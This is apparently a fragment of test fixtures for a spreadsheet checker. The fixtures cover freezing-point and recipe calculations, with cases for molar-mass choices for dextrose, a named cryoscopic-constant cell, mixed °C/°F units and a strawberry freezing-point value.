  {
    rule: "constant-of-a-solute",
    what: "moles of dextrose monohydrate by the anhydrous molar mass",
    rows: [
      ["Ingredient", "g", "Moles"],
      ["Water", 500, null],
      ["Sucrose", 100, 0.2921],
      ["Dextrose monohydrate", 50, 0.2775],
    ],
    cells: ["C4"],
  },
  {
    rule: "constant-of-a-solute",
    what: "moles by its own molar mass",
    rows: [
      ["Ingredient", "g", "Moles"],
      ["Water", 500, null],
      ["Sucrose", 100, 0.2921],
      ["Dextrose monohydrate", 50, 0.2523],
    ],
    cells: [],
  },
  {
    rule: "cryoscopic-constant",
    what: "a cell named Kf that holds 18.6",
    rows: recipe([null], ["constant", 18.6]),
    cells: ["B5"],
    workbook: { names: [{ name: "Kf", refersTo: "Sheet1!$B$5", sheet: null }] },
  },
  {
    rule: "temperature-units-mixed",
    what: "a unit cell that says °F",
    rows: recipe([null], ["Churned at", -5, "°C"], ["Served at", 9, "°F"]),
    cells: ["B6"],
  },
  {
    rule: "temperature-units-mixed",
    what: "a format that shows °F",
    rows: recipe([null], ["Churned at (°C)", -5], ["Served at", { value: 9, format: '0 "°F"' }]),
    cells: ["B6"],
  },
  // Strawberries vary: ASHRAE prints −0.78 °C (2018 Handbook, Refrigeration, table 19.3, from memory).
  {
    rule: "result-differs",
    what: "a table's value for plain fruit",
    rows: [
      ["Ingredient", "g"],
      ["Strawberry", 500],
      ["Water", 1],
      ["Freezing point", -0.78],
    ],
    cells: [],
  },
];
